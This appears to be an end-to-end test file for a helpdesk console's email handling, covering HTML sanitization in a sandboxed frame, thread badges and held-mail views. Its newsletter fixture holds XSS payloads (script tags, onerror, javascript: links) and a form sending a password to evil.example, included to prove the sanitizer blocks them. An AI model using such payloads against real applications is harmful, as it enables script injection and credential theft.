// Proves mail in the console with real messages sent over SMTP to the local stack: HTML shown only sanitized in a sandboxed frame (no script runs, remote images not loaded), quoted history folded until asked for, the thread's mail header and badges (threaded by headers, reply address, marker and subject; automatic reply; unverified sender; acknowledgement; delivery of an agent's reply), and the held-mail page (spam for agents, quarantine for admins only, release with confirmation, unfileable mail); on a phone and in Chinese.
import nodemailer from 'nodemailer';
import type { ConsoleMessage, Frame, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { zhCN } from '../../web/src/i18n/zh-CN.ts';
import { launchBrowser, screenshot } from '../support/browser.ts';
import { callApi, startTestStack } from '../support/local-stack.ts';
import type { Session } from './e2e-helpers.ts';
import { DESKTOP, PHONE, assertNoHorizontalScroll, closeContexts, openPage, poll, signIn, textOf, untranslatedStrings } from './e2e-helpers.ts';

const s: Session = { stack: undefined!, browser: undefined!, contexts: [], pageErrors: [] };
const RUN = Date.now().toString(36);
const SUPPORT = 'support@loopdesk.local';
let seq = 0;
const uniq = () => `${RUN}${(seq += 1)}`;

beforeAll(async () => {
  [s.stack, s.browser] = await Promise.all([startTestStack('e2e-email'), launchBrowser()]);
});

afterAll(async () => {
  await s.browser?.close();
  await s.stack?.stop();
});

afterEach(async () => {
  await closeContexts(s);
  expect(s.pageErrors.splice(0)).toEqual([]);
});

// ── mail ─────────────────────────────────────────────────────────────────────────────────

async function send(raw: string, to = SUPPORT): Promise<void> {
  const transport = nodemailer.createTransport({ host: '127.0.0.1', port: s.stack.smtp!.port, ignoreTLS: true });
  try {
    const info = await transport.sendMail({ envelope: { from: 'bounce@example.com', to: [to] }, raw });
    expect(info.accepted).toEqual([to]);
  } finally {
    transport.close();
  }
}

/** Sends, then waits until every queue of the stack is idle: the message is filed (or held). */
async function deliver(raw: string, to?: string): Promise<void> {
  await send(raw, to);
  await s.stack.drain();
}

interface Mime {
  from: string;
  subject: string;
  messageId: string;
  to?: string;
  cc?: string;
  headers?: string[];
  text?: string;
  html?: string;
}

/** A real MIME message: text, HTML or both (multipart/alternative), UTF-8, 8bit. */
function mime(m: Mime): string {
  const head = [
    `From: ${m.from}`,
    `To: ${m.to ?? SUPPORT}`,
    ...(m.cc ? [`Cc: ${m.cc}`] : []),
    `Subject: ${m.subject}`,
    `Message-ID: <${m.messageId}>`,
    'Date: Mon, 23 Nov 2026 08:00:00 +0000',
    ...(m.headers ?? []),
    'MIME-Version: 1.0',
  ];
  const part = (type: string, body: string) => [`Content-Type: ${type}; charset=utf-8`, 'Content-Transfer-Encoding: 8bit', '', body].join('\r\n');
  if (m.text !== undefined && m.html !== undefined) {
    const b = `alt-${m.messageId.replace(/\W/g, '')}`;
    return [...head, `Content-Type: multipart/alternative; boundary="${b}"`, '', `--${b}`, part('text/plain', m.text), `--${b}`, part('text/html', m.html), `--${b}--`, ''].join('\r\n');
  }
  return [...head, part(m.html !== undefined ? 'text/html' : 'text/plain', m.html ?? m.text ?? ''), ''].join('\r\n');
}

async function ticketsOf(email: string): Promise<{ id: string; number: number; subject: string }[]> {
  const res = await callApi(s.stack, 'GET', `/v1/tickets?customerEmail=${encodeURIComponent(email)}`, { role: 'agent' });
  expect(res.status).toBe(200);
  return res.body.items;
}

async function onlyTicketOf(email: string): Promise<{ id: string; number: number; subject: string }> {
  const tickets = await ticketsOf(email);
  expect(tickets).toHaveLength(1);
  return tickets[0]!;
}

const detail = async (id: string) => (await callApi(s.stack, 'GET', `/v1/tickets/${id}`, { role: 'agent' })).body;

// ── browser ──────────────────────────────────────────────────────────────────────────────

/** Dialogs and console errors a page produced: a script that ran would leave one of them. */
function watch(page: Page): { dialogs: string[]; errors: string[] } {
  const seen = { dialogs: [] as string[], errors: [] as string[] };
  page.on('dialog', (d) => {
    seen.dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('console', (m: ConsoleMessage) => {
    if (m.type() === 'error') seen.errors.push(m.text());
  });
  return seen;
}

async function openTicket(page: Page, id: string): Promise<void> {
  await page.goto(`${s.stack.consoleUrl}/#/tickets/${id}`);
  await page.getByTestId('thread').waitFor();
}

/** The frame the formatted view renders (a sandboxed srcdoc child of the page). */
async function mailFrame(page: Page): Promise<Frame> {
  const handle = await page.getByTestId('email-html-frame').elementHandle();
  const frame = await handle!.contentFrame();
  await frame!.waitForLoadState('load');
  return frame!;
}

const entryBy = (page: Page, text: string) => page.getByTestId('thread-entry').filter({ hasText: text });

/** The held-mail list is shown (loaded) for this view. */
async function heldReady(page: Page, view: 'spam' | 'quarantine'): Promise<void> {
  await page.locator(`[data-testid="held-page"][data-view="${view}"] [data-testid="held-list"][data-state="ready"]`).waitFor();
}

/** The API's held-mail listing for one view (for routes that add to or page what it answers). */
const heldListUrl = (view: string) => (url: URL) => url.pathname.endsWith('/v1/mail/held') && url.searchParams.get('view') === view;

const heldRow = (page: Page, subject: string) => page.getByTestId('held-row').filter({ has: page.getByTestId('held-subject').filter({ hasText: subject }) });

let htmlTicket: { id: string } | undefined;

/** An HTML-only newsletter with scripts, an `<img onerror>`, a tracking pixel, a form and a javascript: link. */
async function htmlOnlyTicket(): Promise<{ id: string }> {
  if (htmlTicket) return htmlTicket;
  const shop = `shop.${uniq()}@example.co.uk`;
  const html = [
    '<!DOCTYPE html><html><head><title>Newsletter title</title>',
    '<script>window.__loopdeskPwned = "head"; try { parent.__loopdeskPwned = "head"; } catch (e) {}</script>',
    '<style>body { background: red }</style></head>',
    '<body><h1>Fish &amp; Chips</h1>',
    '<p style="color: red" class="button">Only &pound;5 &mdash; today&nbsp;only!</p>',
    '<img src="x" onerror="window.__loopdeskPwned = \'onerror\'; alert(\'onerror\')">',
    '<img src="https://tracker.example/pixel.gif" alt="pixel">',
    '<p><a href="https://shop.example/deals" onclick="alert(\'click\')">Deals</a> <a href="javascript:alert(1)">Bad link</a></p>',
    '<script>alert("body"); window.__loopdeskPwned = "body";</script>',
    '<form action="https://evil.example/collect"><input name="password"><button>Send</button></form>',
    '<table border="1" cellpadding="6"><tr><th>Fish</th><th>Price</th></tr><tr><td>Cod</td><td>&pound;5</td></tr><tr><td>Haddock</td><td>&pound;6</td></tr></table>',
    '<ul><li>Cod</li><li>Haddock</li></ul></body></html>',
  ].join('\r\n');
  await deliver(mime({ from: `Fish Shop <${shop}>`, subject: `Fish ${RUN}`, messageId: `html.${uniq()}@example.co.uk`, html }));
  htmlTicket = await onlyTicketOf(shop);
  return htmlTicket;
}

/** The threaded conversation of the thread tests: one customer, four replies found four ways, machine mail, an unverified sender. */
interface Conversation {
  customer: string;
  ticket: { id: string; number: number };
}
let conversation: Conversation | undefined;

async function threadedConversation(): Promise<Conversation> {
  if (conversation) return conversation;
  const customer = `li.na.${uniq()}@example.com`;
  const first = `first.${uniq()}@mail.example.com`;
  await deliver(mime({ from: `Li Na <${customer}>`, cc: `Boss <boss.${RUN}@example.com>`, subject: `Invoice ${RUN} is wrong`, messageId: first, text: 'Hello,\n\nInvoice 2026-11 charges us twice for the same visit.\n\nLi Na' }));
  const ticket = await onlyTicketOf(customer);
  const { ticket: full } = await detail(ticket.id);

  // By In-Reply-To, with an Outlook-style quoted history below the fresh text.
  await deliver(
    mime({
      from: `Li Na <${customer}>`,
      subject: `RE: Invoice ${RUN} is wrong`,
      messageId: `reply.${uniq()}@mail.example.com`,
      headers: [`In-Reply-To: <${first}>`, `References: <${first}>`],
      text: [
        'Hi team,',
        '',
        'The new invoice is still wrong.',
        '',
        'Best regards',
        'Li Na',
        '',
        '________________________________',
        `From: Loopdesk Support <${SUPPORT}>`,
        'Sent: Friday, November 20, 2026 10:00 AM',
        `To: Li Na <${customer}>`,
        `Subject: RE: Invoice ${RUN} is wrong`,
        '',
        'Dear Li Na, we have corrected the invoice.',
      ].join('\n'),
    }),
  );
  // By the ticket's reply address, by our marker in the body, and by [#number] in the subject.
  await deliver(mime({ from: customer, to: `support+${full.mailReference}@loopdesk.local`, subject: 'Another thing', messageId: `addr.${uniq()}@mail.example.com`, text: 'Sent to the ticket’s own address.' }), `support+${full.mailReference}@loopdesk.local`);
  await deliver(mime({ from: customer, subject: 'Marker only', messageId: `marker.${uniq()}@mail.example.com`, text: `Found by the marker.\n\n> old text\n> [ref:${full.mailReference}]` }));
  await deliver(mime({ from: customer, subject: `Re: [#${ticket.number}] Invoice`, messageId: `subject.${uniq()}@mail.example.com`, text: 'Found by the subject.' }));
  // Machine mail and an unverified sender, both answering the first message.
  await deliver(
    mime({
      from: customer,
      subject: `Automatic reply: Invoice ${RUN}`,
      messageId: `ooo.${uniq()}@mail.example.com`,
      headers: [`In-Reply-To: <${first}>`, 'Auto-Submitted: auto-replied'],
      text: 'I am out of the office until Monday.',
    }),
  );
  await deliver(
    mime({
      from: customer,
      subject: `Re: Invoice ${RUN}`,
      messageId: `spf.${uniq()}@mail.example.com`,
      headers: [`In-Reply-To: <${first}>`, 'X-Loopdesk-Local-Verdicts: spf=FAIL; dkim=FAIL'],
      text: 'Please pay to this new bank account instead.',
    }),
  );
  conversation = { customer, ticket };
  return conversation;
}

describe('mail on the ticket thread (browser)', () => {
  it('shows an HTML-only message as text, and formatted only sanitized inside a sandboxed frame where no script runs', async () => {
    const ticket = await htmlOnlyTicket();
    expect((await detail(ticket.id)).ticket.descriptionEmail.html).toContain('onerror'); // kept as received; only the console sanitizes
    const shop = (await detail(ticket.id)).ticket.customerEmail;

    const page = await openPage(s);
    const seen = watch(page);
    await signIn(s, page, `#/tickets/${ticket.id}`);
    await page.getByTestId('thread').waitFor();
    const request = page.getByTestId('thread-request');

    // The text view: the parser's text, never HTML.
    const text = await textOf(request.getByTestId('ticket-description'));
    expect(text).toContain('Fish & Chips');
    expect(text).toContain('Only £5 — today only!');
    expect(text).not.toContain('__loopdeskPwned');
    expect(await request.locator('img, script, iframe').count()).toBe(0);
    expect(await textOf(request.getByTestId('email-from'))).toBe(`<${shop}>`);
    expect(await textOf(request.getByTestId('formatted-toggle'))).toBe('Show formatted');
    await screenshot(page, 'desktop-email-01-html-text');

    // The formatted view: a sandbox that allows nothing, a document that may load nothing.
    await request.getByTestId('formatted-toggle').click();
    const frameElement = request.getByTestId('email-html-frame');
    await frameElement.waitFor();
    expect(await frameElement.getAttribute('sandbox')).toBe('');
    const srcdoc = (await frameElement.getAttribute('srcdoc'))!;
    expect(srcdoc).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:; style-src http:\/\/[^;]+\.css;/);
    for (const gone of ['<script', 'onerror', 'onclick', 'javascript:', 'tracker.example', '<form', '<input', 'style="', 'class="button"', 'Newsletter title', 'background: red']) expect(srcdoc, gone).not.toContain(gone);
    expect(await textOf(request.getByTestId('remote-images-blocked'))).toContain('Images from the web not loaded: 2.');

    const frame = await mailFrame(page);
    expect(await frame.evaluate(() => document.body.innerText)).toContain('Fish & Chips');
    expect(await frame.evaluate(() => [document.querySelectorAll('script').length, document.querySelectorAll('img[src]').length, document.forms.length])).toEqual([0, 0, 0]);
    expect(await frame.evaluate(() => origin)).toBe('null'); // an opaque origin: nothing of the console is reachable
    expect(await frame.evaluate(() => document.querySelector('a')?.getAttribute('target'))).toBe('_blank');
    // The console's stylesheet gives the frame readable type (the mail's own styles are gone).
    expect(await frame.evaluate(() => getComputedStyle(document.body).backgroundColor)).toBe('rgb(255, 255, 255)');
    await page.waitForTimeout(300); // room for anything that would run late (an image error, a timer)
    expect(await frame.evaluate(() => (window as unknown as { __loopdeskPwned?: string }).__loopdeskPwned)).toBeUndefined();
    expect(await page.evaluate(() => (window as unknown as { __loopdeskPwned?: string }).__loopdeskPwned)).toBeUndefined();
    expect(seen.dialogs).toEqual([]);
    expect(seen.errors).toEqual([]);
    await screenshot(page, 'desktop-email-02-html-formatted');

    // And back: the text again.
    await request.getByTestId('formatted-toggle').click();
    expect(await textOf(request.getByTestId('ticket-description'))).toContain('Fish & Chips');
    expect(await request.getByTestId('email-html-frame').count()).toBe(0);
  });

  it('says that embedded (cid:) images cannot be shown in the formatted view', async () => {
    const who = `design.${uniq()}@example.com`;
    const b = `rel-${uniq()}`;
    const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64').toString('base64');
    const raw = [
      `From: ${who}`,
      `To: ${SUPPORT}`,
      `Subject: Logo ${RUN}`,
      `Message-ID: <cid.${uniq()}@example.com>`,
      'MIME-Version: 1.0',
      `Content-Type: multipart/related; boundary="${b}"; type="text/html"`,
      '',
      `--${b}`,
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>Our logo:</p><img src="cid:logo@example.com" alt="Logo">',
      `--${b}`,
      'Content-Type: image/png',
      'Content-ID: <logo@example.com>',
      'Content-Disposition: inline',
      'Content-Transfer-Encoding: base64',
      '',
      png,
      `--${b}--`,
      '',
    ].join('\r\n');
    await deliver(raw);
    const ticket = await onlyTicketOf(who);

    const page = await openPage(s);
    await signIn(s, page, `#/tickets/${ticket.id}`);
    await page.getByTestId('formatted-toggle').click();
    await page.getByTestId('email-html-frame').waitFor();
    expect(await textOf(page.getByTestId('embedded-images'))).toContain('(1)');
    expect(await page.getByTestId('remote-images-blocked').count()).toBe(0);
    // The image itself is among the ticket's files.
    expect(await page.getByTestId('thread-request').getByTestId('entry-file').count()).toBe(1);
  });

  it('folds the quoted history of a reply until asked, leaving the text as it came', async () => {
    const { ticket } = await threadedConversation();
    const page = await openPage(s);
    await signIn(s, page, `#/tickets/${ticket.id}`);
    const reply = entryBy(page, 'The new invoice is still wrong.');
    const body = await textOf(reply.getByTestId('entry-body'));
    expect(body).toBe('Hi team,\n\nThe new invoice is still wrong.\n\nBest regards\nLi Na');
    expect(await reply.getByTestId('quoted-text').count()).toBe(0);
    const toggle = reply.getByTestId('quoted-toggle');
    expect(await toggle.getAttribute('aria-expanded')).toBe('false');
    expect(await textOf(toggle)).toBe('Show quoted text');

    await toggle.click();
    const quoted = await textOf(reply.getByTestId('quoted-text'));
    expect(quoted).toMatch(/^_{32}\nFrom: Loopdesk Support/);
    expect(quoted).toContain('Dear Li Na, we have corrected the invoice.');
    expect(await toggle.getAttribute('aria-expanded')).toBe('true');
    expect(await textOf(toggle)).toBe('Hide quoted text');
    await screenshot(page, 'desktop-email-03-quoted-open');
    await toggle.click();
    expect(await reply.getByTestId('quoted-text').count()).toBe(0);

    // Nothing was cut from the stored text.
    const entry = (await detail(ticket.id)).entries.find((e: { body: string }) => e.body.includes('The new invoice is still wrong.'));
    expect(entry.body).toContain('Dear Li Na, we have corrected the invoice.');
    // A message with no quoted history has no toggle at all.
    expect(await entryBy(page, 'Found by the subject.').getByTestId('quoted-toggle').count()).toBe(0);
  });

  it('shows sender, recipients and how each message was threaded, machine mail, unverified senders, the acknowledgement and a reply’s delivery', async () => {
    const { customer, ticket } = await threadedConversation();
    const page = await openPage(s);
    await signIn(s, page, `#/tickets/${ticket.id}`);

    const request = page.getByTestId('thread-request');
    expect(await textOf(request.getByTestId('email-from'))).toBe(`<${customer}>`);
    expect(await textOf(request.locator('.mail-sender-name'))).toBe('Li Na');
    expect(await textOf(request.getByTestId('email-to'))).toBe(SUPPORT);
    expect(await textOf(request.getByTestId('email-cc'))).toBe(`boss.${RUN}@example.com`);
    expect(await request.getByTestId('email-matched').count()).toBe(0); // it opened the ticket
    const ack = request.getByTestId('email-ack');
    // Delivered mail is drained through the stack, the acknowledgement included: it went out.
    expect(await ack.getAttribute('data-state')).toBe('sent');
    expect(await textOf(ack)).toBe('Acknowledgement sent');

    const matched = async (text: string) => {
      const badge = entryBy(page, text).getByTestId('email-matched');
      return [await badge.getAttribute('data-method'), await textOf(badge)];
    };
    expect(await matched('The new invoice is still wrong.')).toEqual(['headers', 'Threaded by email headers']);
    expect(await matched('Sent to the ticket’s own address.')).toEqual(['reply-address', 'Threaded by reply address']);
    expect(await matched('Found by the marker.')).toEqual(['marker', 'Threaded by the reference in the body']);
    expect(await matched('Found by the subject.')).toEqual(['subject', 'Threaded by the ticket number in the subject']);

    const ooo = entryBy(page, 'out of the office');
    expect(await textOf(ooo.getByTestId('email-automated'))).toBe('Automatic reply — did not reopen the ticket');
    expect(await ooo.getByTestId('email-automated').getAttribute('title')).toBe('Recognised by: Auto-Submitted: auto-replied');
    expect(await ooo.getByTestId('email-unverified').count()).toBe(0);

    const spoofy = entryBy(page, 'new bank account');
    expect(await textOf(spoofy.getByTestId('email-unverified'))).toBe('⚠ Sender not verified (SPF/DKIM failed)');
    expect(await textOf(spoofy.getByTestId('email-matched'))).toBe('Threaded by email headers');
    expect(await entryBy(page, 'Found by the subject.').getByTestId('email-unverified').count()).toBe(0);

    // An agent's reply on an email ticket goes out as mail: its delivery is shown on it.
    await page.getByTestId('composer-body').fill('We are sorry — a corrected invoice follows today.');
    await page.getByTestId('composer-send').click();
    const delivery = page.locator('[data-testid="thread-entry"][data-kind="reply"].entry-by-agent').getByTestId('entry-delivery');
    await delivery.waitFor();
    expect(await delivery.getAttribute('data-status')).toBe('queued');
    expect(await textOf(delivery.locator('.delivery-label'))).toBe('Email queued');
    await screenshot(page, 'desktop-email-04-thread-badges');
  });

  it('gives a failed delivery’s reason on hover and one click away, and a failed acknowledgement in words', async () => {
    const { ticket } = await threadedConversation();
    const page = await openPage(s);
    // The local stack has no mail server to refuse a reply; the ticket's answer is given one that did.
    await page.route((url) => url.pathname.endsWith(`/v1/tickets/${ticket.id}`), async (route) => {
      if (route.request().method() !== 'GET') return route.continue();
      const real = await route.fetch();
      const body = await real.json();
      body.ticket.descriptionEmail.autoAck = 'failed';
      body.entries.push({
        id: '00000000-0000-4000-8000-000000000001',
        ticketId: ticket.id,
        kind: 'reply',
        body: 'Your refund is on its way.',
        author: { type: 'agent', id: 'someone-else' },
        delivery: { status: 'failed', at: body.ticket.createdAt, attempts: 3, detail: '550 5.1.1 <li.na@example.com>: mailbox unavailable' },
        createdAt: new Date(Date.parse(body.ticket.createdAt) + 3_600_000).toISOString(),
      });
      await route.fulfill({ response: real, json: body });
    });
    await signIn(s, page, `#/tickets/${ticket.id}`);
    expect(await textOf(page.getByTestId('thread-request').getByTestId('email-ack'))).toBe('Acknowledgement not delivered');
    const delivery = entryBy(page, 'Your refund is on its way.').getByTestId('entry-delivery');
    expect(await delivery.getAttribute('data-status')).toBe('failed');
    expect(await delivery.locator('summary').getAttribute('title')).toBe('550 5.1.1 <li.na@example.com>: mailbox unavailable');
    expect(await delivery.getByTestId('entry-delivery-detail').isVisible()).toBe(false);
    await delivery.locator('summary').click();
    expect(await textOf(delivery.getByTestId('entry-delivery-detail'))).toMatch(/^550 5\.1\.1 <li\.na@example\.com>: mailbox unavailable\n+Attempts: 3$/);
    expect(await textOf(delivery.locator('.delivery-label'))).toBe('Email not delivered');
  });

  it('explains why a new ticket got no acknowledgement (unverified sender, automatic reply)', async () => {
    const spoofed = `unverified.${uniq()}@example.com`;
    await deliver(mime({ from: spoofed, subject: `Urgent transfer ${RUN}`, messageId: `u.${uniq()}@x.example`, headers: ['X-Loopdesk-Local-Verdicts: dkim=FAIL'], text: 'Please change our bank details.' }));
    const robot = `robot.${uniq()}@example.com`;
    await deliver(mime({ from: robot, subject: `Out of office ${RUN}`, messageId: `o.${uniq()}@x.example`, headers: ['Auto-Submitted: auto-replied'], text: 'Away until Monday.' }));

    const page = await openPage(s);
    await signIn(s, page, `#/tickets/${(await onlyTicketOf(spoofed)).id}`);
    const request = page.getByTestId('thread-request');
    expect(await textOf(request.getByTestId('email-unverified'))).toBe('⚠ Sender not verified (SPF/DKIM failed)');
    expect(await textOf(request.getByTestId('email-ack'))).toBe('No acknowledgement: the sender is not verified');

    await openTicket(page, (await onlyTicketOf(robot)).id);
    expect(await textOf(request.getByTestId('email-automated'))).toBe('Automatic reply');
    expect(await request.getByTestId('email-ack').getAttribute('data-state')).toBe('skipped:automated');
    expect(await textOf(request.getByTestId('email-ack'))).toBe('No acknowledgement: the message was sent automatically');
  });

  it('works on a phone and in Chinese', async () => {
    const { ticket } = await threadedConversation();
    const phone = await openPage(s, PHONE);
    await signIn(s, phone, `#/tickets/${ticket.id}`);
    const reply = entryBy(phone, 'The new invoice is still wrong.');
    await reply.getByTestId('quoted-toggle').tap();
    await reply.getByTestId('quoted-text').waitFor();
    await assertNoHorizontalScroll(phone, 'the email thread on a phone');
    await screenshot(phone, 'phone-email-01-thread');

    await openTicket(phone, (await htmlOnlyTicket()).id);
    await phone.getByTestId('formatted-toggle').tap();
    await phone.getByTestId('email-html-frame').waitFor();
    await assertNoHorizontalScroll(phone, 'the formatted view on a phone');
    await screenshot(phone, 'phone-email-02-formatted');

    const zh = await openPage(s, DESKTOP, 'zh-CN');
    await signIn(s, zh, `#/tickets/${ticket.id}`);
    const zhReply = entryBy(zh, 'The new invoice is still wrong.');
    expect(await textOf(zhReply.getByTestId('quoted-toggle'))).toBe(zhCN['email.showQuoted']);
    expect(await textOf(zhReply.getByTestId('email-matched'))).toBe(zhCN['email.matched.headers']);
    expect(await textOf(zh.getByTestId('thread-request').getByTestId('email-ack'))).toBe(zhCN['ack.sent']);
    expect(await untranslatedStrings(zh)).toEqual([]);
    await screenshot(zh, 'zh-email-01-thread');
  });
});

describe('held mail (browser)', () => {
  it('shows spam to an agent without a quarantine tab; releasing it (confirmed) files it into the desk', async () => {
    const spammer = `spam.${uniq()}@example.com`;
    const subject = `Cheap printers ${RUN}`;
    await deliver(mime({ from: spammer, subject, messageId: `s.${uniq()}@x.example`, headers: ['X-Loopdesk-Local-Verdicts: spam=FAIL'], text: 'Actually a real order: 40 printers, please call me.' }));
    expect(await ticketsOf(spammer)).toEqual([]);

    const page = await openPage(s);
    await signIn(s, page, '');
    await page.getByTestId('nav-mail').click();
    await heldReady(page, 'spam');
    expect(new URL(page.url()).hash).toBe('#/mail/held');
    expect(await page.getByTestId('nav-mail').getAttribute('aria-current')).toBe('page');
    expect(await page.getByTestId('held-tab-quarantine').count()).toBe(0);
    expect(await page.getByTestId('held-tab-spam').count()).toBe(0); // one view: no tabs at all
    const row = heldRow(page, subject);
    expect(await textOf(row.getByTestId('held-from'))).toBe(spammer);
    expect(await textOf(row.getByTestId('held-reason'))).toBe('Marked as spam');
    expect(await row.locator('time').getAttribute('datetime')).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    expect(await textOf(row.locator('time'))).toMatch(/UTC$/); // the user's zone (the test browser runs in UTC)
    await screenshot(page, 'desktop-held-01-spam');

    // Cancel first: nothing happens.
    await row.getByTestId('held-release').click();
    const dialog = page.getByTestId('held-confirm');
    await dialog.waitFor();
    expect(await textOf(dialog)).toContain(`“${subject}” from ${spammer} will be filed into the queue`);
    expect(await dialog.getByTestId('held-confirm-warning').count()).toBe(0);
    await page.getByTestId('held-confirm-cancel').click();
    await dialog.waitFor({ state: 'detached' });
    expect(await row.getAttribute('data-state')).toBe('held');

    await row.getByTestId('held-release').click();
    await screenshot(page, 'desktop-held-02-confirm', { fullPage: false });
    const [response] = await Promise.all([
      page.waitForResponse((r) => r.url().endsWith('/release') && r.request().method() === 'POST'),
      page.getByTestId('held-confirm-release').click(),
    ]);
    expect(response.status()).toBe(202);
    expect(await textOf(row.getByTestId('held-released'))).toBe('Released — it will appear in the queue in a moment');
    expect(await row.getByTestId('held-release').count()).toBe(0);

    await s.stack.drain();
    expect((await ticketsOf(spammer)).map((t) => t.subject)).toEqual([subject]);
    await page.reload();
    await heldReady(page, 'spam');
    expect(await heldRow(page, subject).count()).toBe(0);

    // The quarantine is not the agent's, even by its address.
    await page.goto(`${s.stack.consoleUrl}/#/mail/held?view=quarantine`);
    await page.getByTestId('no-access').waitFor();
  });

  it('shows the quarantine to an admin, warns before releasing from it, and says when mail cannot be filed', async () => {
    const virus = `virus.${uniq()}@example.com`;
    const subject = `Invoice attached ${RUN}`;
    await deliver(mime({ from: virus, subject, messageId: `v.${uniq()}@x.example`, headers: ['X-Loopdesk-Local-Verdicts: virus=FAIL'], text: 'Open the attachment.' }));

    const page = await openPage(s);
    // Mail that never parsed (its raw bytes kept) is rare and slow to make over SMTP; the list is
    // given one, and one the API refuses to file (409 NOT_FILEABLE), beside the real rows.
    const now = new Date().toISOString();
    await page.route(heldListUrl('quarantine'), async (route) => {
      const real = await route.fetch();
      const body = await real.json();
      body.items = [
        { sesMessageId: `synthetic-unparseable-${RUN}`, reason: 'unparseable', view: 'quarantine', receivedAt: now, subject: `Garbled ${RUN}`, size: 4096, detail: 'Unexpected end of input' },
        { sesMessageId: `synthetic-dmarc-${RUN}`, reason: 'dmarc-reject', view: 'quarantine', receivedAt: now, from: 'ceo@bank.example', subject: `Wire transfer ${RUN}`, size: 2100 },
        ...body.items,
      ];
      await route.fulfill({ response: real, json: body });
    });
    await page.route(`**/v1/mail/held/synthetic-dmarc-${RUN}/release`, (route) =>
      route.fulfill({ status: 409, json: { error: { code: 'NOT_FILEABLE', message: 'This message could not be read, so it cannot be filed' } } }),
    );
    await signIn(s, page, '#/mail/held', 'admin');
    await heldReady(page, 'spam');
    await page.getByTestId('held-tab-quarantine').click();
    await heldReady(page, 'quarantine');
    expect(await page.getByTestId('held-tab-quarantine').getAttribute('aria-current')).toBe('page');

    const row = heldRow(page, subject);
    expect(await textOf(row.getByTestId('held-reason'))).toBe('Virus found');
    const subjects = await page.getByTestId('held-subject').allInnerTexts();
    expect(subjects.indexOf(subject)).toBeGreaterThan(-1);

    const garbled = heldRow(page, `Garbled ${RUN}`);
    expect(await textOf(garbled.getByTestId('held-from'))).toBe('No sender');
    expect(await textOf(garbled.getByTestId('held-unfileable'))).toContain('Cannot be filed');
    expect(await garbled.getByTestId('held-release').count()).toBe(0);
    expect(await textOf(garbled.getByTestId('held-reason'))).toContain('Unexpected end of input');

    const dmarc = heldRow(page, `Wire transfer ${RUN}`);
    await dmarc.getByTestId('held-release').click();
    expect(await textOf(page.getByTestId('held-confirm-warning'))).toContain('It was quarantined: Failed its sender’s DMARC policy.');
    await page.getByTestId('held-confirm-release').click();
    expect(await textOf(dmarc.getByTestId('held-unfileable'))).toBe('Cannot be filed\nThis message could not be read, so it cannot be filed.');
    expect(await dmarc.getByTestId('held-release').count()).toBe(0);
    await screenshot(page, 'desktop-held-03-quarantine');

    // The real virus message: released on an admin's word.
    await row.getByTestId('held-release').click();
    await page.getByTestId('held-confirm-release').click();
    await row.getByTestId('held-released').waitFor();
    await s.stack.drain();
    await poll(async () => (await ticketsOf(virus)).length).toBe(1);
  });

  it('pages through held mail newest first', async () => {
    const subjects = [1, 2, 3].map((n) => `Paged spam ${RUN} ${n}`);
    for (const subject of subjects) {
      await send(mime({ from: `paged.${uniq()}@example.com`, subject, messageId: `p.${uniq()}@x.example`, headers: ['X-Loopdesk-Local-Verdicts: spam=FAIL'], text: 'Buy now' }));
      await s.stack.drain();
    }
    const page = await openPage(s);
    // Two a page, so the three need the cursor.
    await page.route(heldListUrl('spam'), (route) => route.continue({ url: route.request().url().replace(/limit=\d+/, 'limit=2') }));
    await signIn(s, page, '#/mail/held');
    await heldReady(page, 'spam');
    expect(await page.getByTestId('held-row').count()).toBe(2);
    await page.getByTestId('held-load-more').click();
    await poll(() => page.getByTestId('held-row').count()).toBeGreaterThanOrEqual(3);
    const shown = (await page.getByTestId('held-subject').allInnerTexts()).filter((t) => t.startsWith(`Paged spam ${RUN}`));
    expect(shown).toEqual([...subjects].reverse());
  });

  it('works on a phone and in Chinese', async () => {
    await deliver(mime({ from: `phone.${uniq()}@example.com`, subject: `一次性促销 ${RUN}`, messageId: `z.${uniq()}@x.example`, headers: ['X-Loopdesk-Local-Verdicts: spam=FAIL'], text: '立即购买' }));
    const phone = await openPage(s, PHONE);
    await signIn(s, phone, '#/mail/held');
    await heldReady(phone, 'spam');
    await assertNoHorizontalScroll(phone, 'held mail on a phone');
    await screenshot(phone, 'phone-held-01-spam');

    const zh = await openPage(s, DESKTOP, 'zh-CN');
    await signIn(s, zh, '#/mail/held', 'admin');
    await heldReady(zh, 'spam');
    expect(await textOf(zh.getByTestId('held-tab-quarantine'))).toBe(zhCN['held.tab.quarantine']);
    expect(await textOf(zh.getByTestId('nav-mail'))).toBe(zhCN['nav.heldMail']);
    expect(await untranslatedStrings(zh)).toEqual([]);
    await screenshot(zh, 'zh-held-01-spam');
    await zh.getByTestId('held-tab-quarantine').click();
    await heldReady(zh, 'quarantine');
    await screenshot(zh, 'zh-held-02-quarantine');

    const zhPhone = await openPage(s, PHONE, 'zh-CN');
    await signIn(s, zhPhone, '#/mail/held');
    await heldReady(zhPhone, 'spam');
    await zhPhone.getByTestId('held-release').first().click();
    await zhPhone.getByTestId('held-confirm').waitFor();
    await screenshot(zhPhone, 'phone-zh-held-02-confirm', { fullPage: false });
  });
});
